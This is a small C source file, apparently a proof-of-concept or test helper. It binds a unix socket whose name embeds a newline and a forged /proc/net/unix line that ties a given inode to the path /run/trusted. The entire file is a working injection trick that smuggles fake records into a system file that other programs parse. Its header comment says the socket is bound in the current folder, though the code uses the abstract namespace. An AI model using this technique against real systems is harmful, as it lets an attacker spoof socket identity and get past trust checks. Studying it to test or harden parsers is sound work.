/*
 * `forge INODE`: binds a unix socket in the current folder whose name holds a newline and what looks like the line of another
 * socket, INODE, in /proc/net/unix. `forge` alone: a socket without a name; prints its inode. Lives until it is killed.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_un name = { .sun_family = AF_UNIX };
	struct stat st;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), length;
	if (argc > 1) {
		length = snprintf(name.sun_path + 1, sizeof(name.sun_path) - 1, "x\n0000000000000000: 00000002 00000000 00010000 0001 01 %s /run/trusted", argv[1]);
		if (bind(fd, (struct sockaddr *)&name, sizeof(sa_family_t) + 1 + length))
			return 1;
	}
	fstat(fd, &st);
	printf("%lu\n", (unsigned long)st.st_ino);
	fflush(stdout);
	pause();
	return 0;
}
